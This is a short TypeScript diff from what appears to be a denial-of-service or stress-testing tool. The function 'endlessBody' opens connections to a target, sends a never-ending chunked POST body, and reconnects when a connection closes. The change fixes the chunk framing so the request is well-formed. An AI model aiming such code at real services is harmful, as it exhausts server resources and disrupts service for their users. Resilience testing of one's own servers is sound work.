@@ -81,7 +81,7 @@ function endlessBody({ url: server, from }: Attacker, path: string): Stop {
     own.once('close', () => setTimeout(begin, AGAIN_MS));
     own.resume().once('connect', () => {
       own.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
-      own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\n{"query":"`);
+      own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\na\r\n{"query":"\r\n`);
       pour();
     });
   };
